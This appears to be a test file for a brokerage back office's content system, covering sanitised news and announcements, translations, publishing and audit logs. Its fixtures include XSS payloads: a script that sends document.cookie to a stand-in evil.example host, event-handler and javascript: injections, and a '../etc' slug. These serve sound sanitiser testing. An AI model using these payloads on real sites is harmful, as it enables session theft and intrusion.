import { readFileSync } from 'node:fs';
import type {
  Announcement,
  AnnouncementList,
  Company,
  NewsDetail,
  NewsList,
} from '@meridian/contract/content';
import type {
  StaffAnnouncementPage,
  StaffAnnouncementVersion,
  StaffCompany,
  StaffCompanySettings,
  StaffContentOptions,
  StaffNewsPage,
  StaffNewsStory,
  StaffNewsVersion,
} from '@meridian/contract/content-staff';
import { LIMITS } from '@meridian/contract/limits';
import { beforeAll, describe, expect, it } from 'vitest';
import { call } from '../../../test/accounts';
import { useTestApp } from '../../../test/app-hooks';
import { adminCall, staffSession } from '../../../test/staff';
import { rowsOf } from '../../db/migrate';
import { NEWS } from './content-seed';

const t = useTestApp();
let editor: { id: number; token: string };

beforeAll(async () => {
  editor = await staffSession(t, 'content', 'Cleo Content');
});

const HOSTILE_HTML = [
  '<p>Gold <strong>rallied</strong> today.</p>',
  '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
  '<img src="x" onerror="alert(1)">',
  '<img src="https://cdn.example.com/gold.png" onerror="alert(2)" alt="gold">',
  '<a href="javascript:alert(3)" onclick="alert(4)">click</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<p style="position:fixed" onmouseover="alert(5)">hover</p>',
].join('');

function expectClean(html: string) {
  expect(html).not.toMatch(/<script|<iframe|onerror|onclick|onmouseover|javascript:|style=/i);
  expect(html).toContain('<strong>rallied</strong>');
  expect(html).toContain('alt="gold"');
}

async function scalar(sql: string): Promise<number> {
  const result = await t.database.db.execute(sql);
  return Number(rowsOf<{ n: number }>(result)[0]?.n ?? 0);
}

/** What a refusal must leave untouched: every content row, the two settings and the audit log. */
async function contentFingerprint(): Promise<string> {
  const result = await t.database.db.execute(
    `select
       (select coalesce(md5(string_agg(n::text, ',' order by n.id)), '') from news n) as news,
       (select coalesce(md5(string_agg(a::text, ',' order by a.id)), '') from announcements a) as notices,
       (select coalesce(md5(string_agg(c::text, ',' order by c.id)), '') from companies c) as companies,
       (select coalesce(string_agg(key || '=' || value, ',' order by key), '') from settings
          where key in ('company_name', 'complaint_email')) as settings,
       (select count(*)::int from audit_log where action like 'content.%') as audits`,
  );
  return JSON.stringify(rowsOf(result)[0]);
}

async function auditOf(action: string, target: string) {
  const result = await t.database.db.execute(
    `select staff_id, details from audit_log where action = '${action}' and target = '${target}' order by id`,
  );
  return rowsOf<{ staff_id: number; details: Record<string, unknown> }>(result);
}

const story = (fields: Record<string, unknown> = {}) => ({
  language: 'en',
  category_id: 1,
  title: 'Gold hits a record',
  desc: 'Metals rallied on a weaker dollar.',
  logo: '/api/content/art/commodities.svg',
  content: HOSTILE_HTML,
  ...fields,
});

async function saveNews(fields: Record<string, unknown>) {
  return adminCall<StaffNewsVersion>(t, 'POST', '/admin/api/content/news/save', fields, editor.token);
}

async function customerNews(lang: string) {
  return (await call<NewsList>(t, 'GET', '/api/news/list', { limit: 50 }, { lang })).data.list;
}

describe('back office: news', () => {
  it('offers the categories and the built-in covers', async () => {
    const options = await adminCall<StaffContentOptions>(
      t,
      'GET',
      '/admin/api/content/options',
      {},
      editor.token,
    );
    expect(options.code).toBe(1);
    expect(options.data.categories.map((category) => category.name)).toContain('Markets');
    expect(options.data.covers.find((cover) => cover.name === 'markets')?.url).toMatch(
      /^\/api\/content\/art\/markets\.svg\?v=/,
    );
  });

  it('saves a story as a draft with its HTML sanitized on the server, invisible to customers until published', async () => {
    const saved = await saveNews(story());
    expect(saved.code).toBe(1);
    const english = saved.data;
    expect(english).toMatchObject({ language: 'en', published: false, title: 'Gold hits a record' });
    expect(english.slug).toMatch(/^news-\d{8}-[0-9a-f]{6}$/);
    expectClean(english.content);
    const stored = await t.database.db.execute(`select content from news where id = ${english.id}`);
    expectClean(rowsOf<{ content: string }>(stored)[0]?.content ?? '');

    const audit = await auditOf('content.news_saved', `news:${english.id}`);
    expect(audit).toHaveLength(1);
    expect(audit[0]?.staff_id).toBe(editor.id);
    expect(audit[0]?.details).toMatchObject({ before: null, after: { id: english.id, published: false } });

    // A draft: no customer sees it, in a list or by its id.
    expect((await customerNews('en')).map((item) => item.id)).not.toContain(english.id);
    const hidden = await call(t, 'GET', '/api/news/info', { id: english.id }, { lang: 'en' });
    expect(hidden).toMatchObject({ code: 0, msg: 'This news item does not exist.' });

    // The preview answers what the customer app will get.
    const preview = await adminCall<NewsDetail>(
      t,
      'GET',
      '/admin/api/content/news/preview',
      { id: english.id },
      editor.token,
    );
    expect(preview.data).toMatchObject({ id: english.id, title: 'Gold hits a record', language: 'en' });
    expectClean(preview.data.content);
    expect(preview.data.content).toBe(english.content);

    // A Traditional Chinese version of the same story; its cover and category are the story's.
    const chinese = await saveNews(
      story({
        slug: english.slug,
        language: 'hk',
        category_id: 3,
        title: '金價創新高',
        desc: '美元走弱，金屬上揚。',
        logo: '/api/content/art/markets.svg',
        content:
          '<h2>金價</h2><p>金價<strong>上升</strong>。</p><img src="https://cdn.example.com/a.png" onerror=alert(1)>',
      }),
    );
    expect(chinese.code).toBe(1);
    expect(chinese.data.content).toBe(
      '<h2>金價</h2><p>金價<strong>上升</strong>。</p><img src="https://cdn.example.com/a.png" />',
    );
    const listed = await adminCall<StaffNewsPage>(t, 'GET', '/admin/api/content/news', {}, editor.token);
    const group = listed.data.list.find((item) => item.slug === english.slug);
    expect(group?.versions.map((version) => [version.language, version.category_id, version.logo])).toEqual([
      ['en', 3, '/api/content/art/markets.svg'],
      ['hk', 3, '/api/content/art/markets.svg'],
    ]);
    expect(listed.data.list[0]?.slug).toBe(english.slug);
    const categoryAudit = await auditOf('content.news_saved', `news:${english.id}`);
    expect(categoryAudit.at(-1)?.details).toMatchObject({
      before: { category_id: 1, logo: '/api/content/art/commodities.svg' },
      after: { category_id: 3, logo: '/api/content/art/markets.svg' },
    });

    // Publishing English only: a Chinese reader reads the English one (the draft hides nothing).
    const published = await adminCall<StaffNewsStory>(
      t,
      'POST',
      '/admin/api/content/news/publish',
      { slug: english.slug, language: 'en', published: true },
      editor.token,
    );
    expect(published.data.versions.map((version) => version.published)).toEqual([true, false]);
    expect((await customerNews('en'))[0]).toMatchObject({ id: english.id, title: 'Gold hits a record' });
    expect((await customerNews('hk'))[0]).toMatchObject({ id: english.id, language: 'en' });

    // Every version published: each reader gets their own, by either id.
    await adminCall(
      t,
      'POST',
      '/admin/api/content/news/publish',
      { slug: english.slug, published: 1 },
      editor.token,
    );
    expect((await customerNews('hk'))[0]).toMatchObject({ id: chinese.data.id, title: '金價創新高' });
    const detail = await call<NewsDetail>(t, 'GET', '/api/news/info', { id: english.id }, { lang: 'hk' });
    expect(detail.data).toMatchObject({ id: chinese.data.id, content: chinese.data.content });
    expect(await auditOf('content.news_published', `news:${chinese.data.id}`)).toHaveLength(1);

    // Taken down: gone for every reader; the audit says what it was before.
    await adminCall(
      t,
      'POST',
      '/admin/api/content/news/publish',
      { slug: english.slug, published: false },
      editor.token,
    );
    expect((await customerNews('en')).map((item) => item.id)).not.toContain(english.id);
    expect((await customerNews('hk')).map((item) => item.id)).not.toContain(chinese.data.id);
    expect((await call(t, 'GET', '/api/news/info', { id: chinese.data.id }, { lang: 'hk' })).code).toBe(0);
    const takedown = await auditOf('content.news_unpublished', `news:${english.id}`);
    expect(takedown[0]?.details).toMatchObject({ before: { published: true }, after: { published: false } });

    // A draft version may be deleted; a published one may not.
    await adminCall(
      t,
      'POST',
      '/admin/api/content/news/publish',
      { slug: english.slug, language: 'en', published: true },
      editor.token,
    );
    const refused = await adminCall(
      t,
      'POST',
      '/admin/api/content/news/delete',
      { id: english.id },
      editor.token,
    );
    expect(refused).toMatchObject({
      code: 0,
      msg: 'A published version cannot be deleted. Unpublish it first.',
    });
    const deleted = await adminCall(
      t,
      'POST',
      '/admin/api/content/news/delete',
      { id: chinese.data.id },
      editor.token,
    );
    expect(deleted).toMatchObject({ code: 1, data: { id: chinese.data.id, slug: english.slug } });
    expect(await scalar(`select count(*)::int as n from news where slug = '${english.slug}'`)).toBe(1);
    expect((await auditOf('content.news_deleted', `news:${chinese.data.id}`))[0]?.details).toMatchObject({
      before: { title: '金價創新高' },
      after: null,
    });
  });

  it("makes a new story's first version its default language: readers without their own get it", async () => {
    // Written first in Japanese, then translated into Arabic; no English version at all.
    const japanese = (
      await saveNews(story({ language: 'jp', title: '金価格が最高値', desc: 'ドル安で金属が上昇。' }))
    ).data;
    expect(japanese.is_default).toBe(true);
    const arabic = await saveNews(
      story({
        slug: japanese.slug,
        language: 'ar',
        title: 'الذهب يسجل رقما قياسيا',
        content: '<p>ارتفع الذهب.</p>',
      }),
    );
    expect(arabic).toMatchObject({ code: 1, data: { language: 'ar', is_default: false } });
    const listed = await adminCall<StaffNewsPage>(t, 'GET', '/admin/api/content/news', {}, editor.token);
    expect(
      listed.data.list
        .find((item) => item.slug === japanese.slug)
        ?.versions.map((version) => [version.language, version.is_default]),
    ).toEqual([
      ['ar', false],
      ['jp', true],
    ]);
    await adminCall(
      t,
      'POST',
      '/admin/api/content/news/publish',
      { slug: japanese.slug, published: 1 },
      editor.token,
    );

    // Arabic readers get theirs; English and French readers the Japanese default (not nothing).
    expect((await customerNews('ar')).find((item) => item.title === 'الذهب يسجل رقما قياسيا')).toMatchObject({
      id: arabic.data.id,
      language: 'ar',
    });
    for (const lang of ['en', 'fr']) {
      const shown = (await customerNews(lang)).filter(
        (item) => item.id === japanese.id || item.id === arabic.data.id,
      );
      expect(shown, lang).toEqual([expect.objectContaining({ id: japanese.id, language: 'jp' })]);
      const detail = await call<NewsDetail>(t, 'GET', '/api/news/info', { id: arabic.data.id }, { lang });
      expect(detail.data).toMatchObject({ id: japanese.id, language: 'jp', title: '金価格が最高値' });
    }

    // Only the translation published: a reader of a third language sees nothing of the story.
    await adminCall(
      t,
      'POST',
      '/admin/api/content/news/publish',
      { slug: japanese.slug, language: 'jp', published: 0 },
      editor.token,
    );
    expect((await customerNews('fr')).map((item) => item.id)).not.toContain(japanese.id);
    expect((await call(t, 'GET', '/api/news/info', { id: japanese.id }, { lang: 'fr' })).code).toBe(0);
    expect((await customerNews('ar')).map((item) => item.id)).toContain(arabic.data.id);

    // The default-language version is required: not deleted while a translation exists (refused in
    // the staff member's language, nothing written), and deleted with the story's last version.
    await adminCall(
      t,
      'POST',
      '/admin/api/content/news/publish',
      { slug: japanese.slug, published: 0 },
      editor.token,
    );
    const before = await contentFingerprint();
    const refused = await adminCall(
      t,
      'POST',
      '/admin/api/content/news/delete',
      { id: japanese.id },
      editor.token,
      'hk',
    );
    expect(refused).toEqual({ code: 0, msg: '故事仍有其他語言版本時，不能刪除預設語言版本。', data: null });
    expect(await contentFingerprint()).toBe(before);
    const del = (id: number) => adminCall(t, 'POST', '/admin/api/content/news/delete', { id }, editor.token);
    expect((await del(arabic.data.id)).code).toBe(1);
    expect((await del(japanese.id)).code).toBe(1);
    expect(await scalar(`select count(*)::int as n from news where slug = '${japanese.slug}'`)).toBe(0);

    // A translation saved to a story keeps the story's default: a second save of the same language
    // changes its text, never which version is the default.
    const first = (await saveNews(story({ language: 'de', title: 'Gold auf Rekordhoch' }))).data;
    const again = await saveNews(story({ slug: first.slug, language: 'de', title: 'Gold auf Rekordniveau' }));
    expect(again.data).toMatchObject({ id: first.id, is_default: true, title: 'Gold auf Rekordniveau' });
    expect(
      await scalar(`select count(*)::int as n from news where slug = '${first.slug}' and is_default`),
    ).toBe(1);
  });

  it("migration 0015 makes every story's English version its default, else its first version", async () => {
    const migration = readFileSync(
      new URL('../../db/migrations/0015_news_default_language.sql', import.meta.url),
      'utf8',
    );
    const update = migration.split('--> statement-breakpoint').find((part) => part.includes('UPDATE'));
    if (!update) throw new Error('migration 0015 has no UPDATE');
    // Stories as they were before it: no default anywhere. Rolled back, so other tests see nothing.
    const rollback = new Error('rollback');
    const outcome = await t.database.db
      .transaction(async (tx) => {
        await tx.execute(`update news set is_default = false`);
        await tx.execute(`insert into news (slug, language, category_id, title, description, logo, content)
          values ('old-no-english', 'jp', 1, 't', '', '/x', '<p>x</p>'),
                 ('old-no-english', 'hk', 1, 't', '', '/x', '<p>x</p>')`);
        await tx.execute(update);
        const rows = rowsOf<{ slug: string; language: string }>(
          await tx.execute(`select slug, language from news where is_default order by slug`),
        );
        const stories = rowsOf<{ n: number }>(
          await tx.execute(`select count(distinct slug)::int as n from news`),
        );
        throw Object.assign(rollback, { rows, stories: stories[0]?.n });
      })
      .catch((error: unknown) => error);
    if (outcome !== rollback) throw outcome;
    const { rows, stories } = rollback as Error & {
      rows: { slug: string; language: string }[];
      stories: number;
    };
    expect(rows).toHaveLength(stories);
    expect(rows.find((row) => row.slug === 'old-no-english')?.language).toBe('jp');
    // The seeded stories all have an English version: it is theirs.
    const seeded = new Set(NEWS.map((seed) => seed.slug));
    const seededDefaults = rows.filter((row) => seeded.has(row.slug));
    expect(seededDefaults).toHaveLength(NEWS.length);
    expect(seededDefaults.every((row) => row.language === 'en')).toBe(true);
  });

  it('refuses bad input and writes nothing', async () => {
    const existing = (await saveNews(story({ title: 'A draft to aim at' }))).data;
    const before = await contentFingerprint();
    const cases: [Record<string, unknown>, string][] = [
      [story({ title: '' }), 'Title is required.'],
      [
        story({ title: '<b></b>' }),
        'The title and the content cannot be empty once unsafe markup is removed.',
      ],
      [
        story({ content: '<script>alert(1)</script><iframe></iframe>' }),
        'The title and the content cannot be empty once unsafe markup is removed.',
      ],
      [story({ content: '' }), 'Content is required.'],
      [
        story({ content: `<p>${'x'.repeat(LIMITS.contentHtmlLengthMax)}</p>` }),
        'Content is too long (at most 200000 characters).',
      ],
      [
        story({ title: 'x'.repeat(LIMITS.contentTitleLengthMax + 1) }),
        'Title is too long (at most 200 characters).',
      ],
      [
        story({ title: 'Bad\u0000title' }),
        'Title contains an invisible control character. Please remove it and try again.',
      ],
      [story({ category_id: 999 }), 'This news category does not exist.'],
      [story({ logo: 'javascript:alert(1)' }), 'Cover image is not in the right format.'],
      [story({ logo: '//evil.example/x.png' }), 'Cover image is not in the right format.'],
      [
        story({ logo: 'https://cdn.example.com/a.png" onerror="x' }),
        'Cover image is not in the right format.',
      ],
      [story({ language: 'xx' }), 'Language is not one of the allowed values.'],
      [story({ slug: 'news-19990101-000000' }), 'This news item does not exist.'],
      [story({ slug: '../etc' }), 'Story is not in the right format.'],
    ];
    for (const [fields, message] of cases) {
      const answer = await saveNews(fields);
      expect(answer, JSON.stringify(fields).slice(0, 80)).toMatchObject({ code: 0, msg: message });
    }
    const badPublish = await adminCall(
      t,
      'POST',
      '/admin/api/content/news/publish',
      { slug: existing.slug, published: 'maybe' },
      editor.token,
    );
    expect(badPublish.code).toBe(0);
    const unknown = await adminCall(
      t,
      'POST',
      '/admin/api/content/news/delete',
      { id: 2_000_000 },
      editor.token,
    );
    expect(unknown).toMatchObject({ code: 0, msg: 'This news item does not exist.' });
    expect(await contentFingerprint()).toBe(before);
  });

  it('is refused to roles without content.edit, with nothing written', async () => {
    const support = await staffSession(t, 'support');
    const before = await contentFingerprint();
    const answer = await adminCall(t, 'POST', '/admin/api/content/news/save', story(), support.token);
    expect(answer).toMatchObject({ code: 0, msg: 'Your role does not allow this.' });
    expect(await contentFingerprint()).toBe(before);
    const admin = await staffSession(t, 'admin');
    expect((await adminCall(t, 'GET', '/admin/api/content/news', {}, admin.token)).code).toBe(1);
  });
});

describe('back office: announcements', () => {
  it('drafts, sanitizes, publishes and takes down a notice', async () => {
    const saved = await adminCall<StaffAnnouncementVersion>(
      t,
      'POST',
      '/admin/api/content/announcements/save',
      {
        language: 'en',
        title: 'Maintenance <i>tonight</i>',
        content: '<p>Back at 02:00.</p><script>x()</script><iframe src="https://evil.example"></iframe>',
      },
      editor.token,
    );
    expect(saved.code).toBe(1);
    expect(saved.data).toMatchObject({
      title: 'Maintenance tonight',
      content: '<p>Back at 02:00.</p>',
      published: false,
    });
    const listCustomer = async () =>
      (await call<AnnouncementList>(t, 'GET', '/api/announcement/list', { limit: 50 }, { lang: 'en' })).data
        .list;
    expect((await listCustomer()).map((item) => item.id)).not.toContain(saved.data.id);
    expect((await call(t, 'GET', '/api/announcement/info', { id: saved.data.id })).code).toBe(0);

    const preview = await adminCall<Announcement>(
      t,
      'GET',
      '/admin/api/content/announcements/preview',
      { id: saved.data.id },
      editor.token,
    );
    expect(preview.data.content).toBe('<p>Back at 02:00.</p>');

    await adminCall(
      t,
      'POST',
      '/admin/api/content/announcements/publish',
      { slug: saved.data.slug, published: true },
      editor.token,
    );
    expect((await listCustomer())[0]).toMatchObject({ id: saved.data.id, content: '<p>Back at 02:00.</p>' });
    const staffList = await adminCall<StaffAnnouncementPage>(
      t,
      'GET',
      '/admin/api/content/announcements',
      {},
      editor.token,
    );
    expect(staffList.data.list[0]?.versions[0]).toMatchObject({ id: saved.data.id, published: true });

    await adminCall(
      t,
      'POST',
      '/admin/api/content/announcements/publish',
      { slug: saved.data.slug, published: false },
      editor.token,
    );
    expect((await listCustomer()).map((item) => item.id)).not.toContain(saved.data.id);
    expect(await auditOf('content.announcement_published', `announcement:${saved.data.id}`)).toHaveLength(1);
    expect(await auditOf('content.announcement_unpublished', `announcement:${saved.data.id}`)).toHaveLength(
      1,
    );

    const before = await contentFingerprint();
    const empty = await adminCall(
      t,
      'POST',
      '/admin/api/content/announcements/save',
      { language: 'en', title: 'x', content: '<script></script>' },
      editor.token,
    );
    expect(empty.code).toBe(0);
    expect(await contentFingerprint()).toBe(before);
  });
});

describe('back office: company pages and the complaint e-mail', () => {
  const company = (fields: Record<string, unknown> = {}) => ({
    name: 'Meridian Markets (Asia) Limited',
    logo: '/api/content/art/markets.svg',
    url: 'https://asia.meridian-markets.com',
    subject: 'Brokerage',
    registered_address: '1 Harbour Road, Hong Kong',
    location: 'Hong Kong',
    email: 'asia@meridian-markets.com',
    sort: 50,
    ...fields,
  });

  it('adds and edits a company that the customer app lists', async () => {
    const added = await adminCall<StaffCompany>(
      t,
      'POST',
      '/admin/api/content/companies/save',
      company({ subject: '<b>Brokerage</b>' }),
      editor.token,
    );
    expect(added.code).toBe(1);
    expect(added.data).toMatchObject({ name: 'Meridian Markets (Asia) Limited', subject: 'Brokerage' });
    const edited = await adminCall<StaffCompany>(
      t,
      'POST',
      '/admin/api/content/companies/save',
      company({ id: added.data.id, location: 'Kowloon' }),
      editor.token,
    );
    expect(edited.data).toMatchObject({ id: added.data.id, slug: added.data.slug, location: 'Kowloon' });
    const listed = await call<Company[]>(t, 'GET', '/api/company/getCompany', { name: 'Asia' });
    expect(listed.data.find((row) => row.id === added.data.id)).toMatchObject({ location: 'Kowloon' });
    const staffList = await adminCall<StaffCompany[]>(
      t,
      'GET',
      '/admin/api/content/companies',
      {},
      editor.token,
    );
    expect(staffList.data.map((row) => row.id)).toContain(added.data.id);
    const audit = await auditOf('content.company_saved', `company:${added.data.id}`);
    expect(audit.map((row) => row.details)).toMatchObject([
      { before: null, after: { location: 'Hong Kong' } },
      { before: { location: 'Hong Kong' }, after: { location: 'Kowloon' } },
    ]);

    const before = await contentFingerprint();
    for (const bad of [
      company({ email: 'not-an-email' }),
      company({ url: 'javascript:alert(1)' }),
      company({ name: '' }),
      company({ id: 2_000_000 }),
      company({ sort: -1 }),
    ]) {
      const answer = await adminCall(t, 'POST', '/admin/api/content/companies/save', bad, editor.token);
      expect(answer.code, JSON.stringify(bad)).toBe(0);
    }
    expect(await contentFingerprint()).toBe(before);
  });

  it('changes the company name and complaint e-mail that /mine/email shows, validated and audited', async () => {
    const initial = await adminCall<StaffCompanySettings>(
      t,
      'GET',
      '/admin/api/content/company_settings',
      {},
      editor.token,
    );
    expect(initial.data).toEqual({
      company_name: 'Meridian Markets',
      complaint_email: 'complaints@meridian-markets.com',
    });

    const before = await contentFingerprint();
    const bad = await adminCall(
      t,
      'POST',
      '/admin/api/content/company_settings/save',
      { company_name: 'Meridian', complaint_email: 'complaints at meridian' },
      editor.token,
    );
    expect(bad).toMatchObject({ code: 0, msg: 'Please enter a valid e-mail address.' });
    const noName = await adminCall(
      t,
      'POST',
      '/admin/api/content/company_settings/save',
      { company_name: ' ', complaint_email: 'a@b.co' },
      editor.token,
    );
    expect(noName.code).toBe(0);
    expect(await contentFingerprint()).toBe(before);

    const saved = await adminCall<StaffCompanySettings>(
      t,
      'POST',
      '/admin/api/content/company_settings/save',
      { company_name: 'Meridian Markets Group', complaint_email: 'Care@Meridian-Markets.com' },
      editor.token,
    );
    expect(saved.data).toEqual({
      company_name: 'Meridian Markets Group',
      complaint_email: 'care@meridian-markets.com',
    });
    const customer = await call<{ email: string; company_name: string }>(
      t,
      'GET',
      '/api/company/complaint_email',
    );
    expect(customer.data).toEqual({
      email: 'care@meridian-markets.com',
      company_name: 'Meridian Markets Group',
    });
    const audit = await auditOf('content.company_settings_saved', 'settings:company');
    expect(audit.at(-1)?.details).toEqual({
      before: { company_name: 'Meridian Markets', complaint_email: 'complaints@meridian-markets.com' },
      after: { company_name: 'Meridian Markets Group', complaint_email: 'care@meridian-markets.com' },
    });
  });
});
